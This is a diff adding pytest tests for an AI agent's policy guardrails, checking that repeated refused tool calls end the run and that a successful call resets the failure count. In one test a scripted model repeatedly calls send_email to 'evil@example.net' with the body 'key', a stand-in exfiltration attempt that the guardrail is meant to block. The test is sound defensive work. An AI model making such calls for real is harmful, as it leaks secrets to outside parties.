@@ -171,3 +171,45 @@ def test_guard_copies_the_tools_and_keeps_their_guardrails() -> None:
     assert twice.tool_input_guardrails[0] is guardrails.input_guardrail
     assert len(twice.tool_input_guardrails) == 2
     assert json.loads(json.dumps(guarded.params_json_schema)) == guarded_agent.web_fetch.params_json_schema
+
+
+def test_five_refused_calls_in_a_row_end_the_run() -> None:
+    guardrails = PolicyGuardrails(rulesc.Policy.from_paths([RULES]))
+    mail = [
+        [function_call("send_email", {"to": "evil@example.net", "body": "key"}, call_id=f"mail{i}")]
+        for i in range(5)
+    ]
+    fetch = [function_call("web_fetch", {"url": "https://example.com/post"}, call_id="fetch")]
+    model = ScriptedModel([fetch, *mail, [assistant_message("never reached")]])
+    with pytest.raises(ToolInputGuardrailTripwireTriggered) as raised:
+        run(guarded_agent.build_agent(guardrails, model))
+    outcome = raised.value.output.output_info
+    assert (outcome["event"], outcome["decision"], outcome["resolved_by"]) == (
+        "on_error",
+        "forbid",
+        "stop-on-repeated-failures",
+    )
+    assert guarded_agent.SENT == []
+    errors = [(event["errors"], event["failures"]) for event, _ in guardrails.outcomes if event["event"] == "on_error"]
+    assert errors == [(1, 1), (2, 2), (3, 3), (4, 4), (5, 5)]
+
+
+def test_a_call_that_ran_resets_failures() -> None:
+    policy = rulesc.Policy.from_source('on pre_tool_use when tool == "send_email" block "no mail"')
+    guardrails = PolicyGuardrails(policy)
+    model = ScriptedModel(
+        [
+            [function_call("send_email", {"to": "a@example.com", "body": "x"}, call_id="mail")],
+            [function_call("web_fetch", {"url": "https://example.com"}, call_id="fetch")],
+            [],
+        ]
+    )
+    run(guarded_agent.build_agent(guardrails, model))
+    counters = [(event["event"], event["errors"], event["failures"]) for event, _ in guardrails.outcomes]
+    assert counters == [
+        ("pre_tool_use", 0, 0),
+        ("post_tool_use", 1, 1),
+        ("on_error", 1, 1),
+        ("pre_tool_use", 1, 1),
+        ("post_tool_use", 1, 0),
+    ]
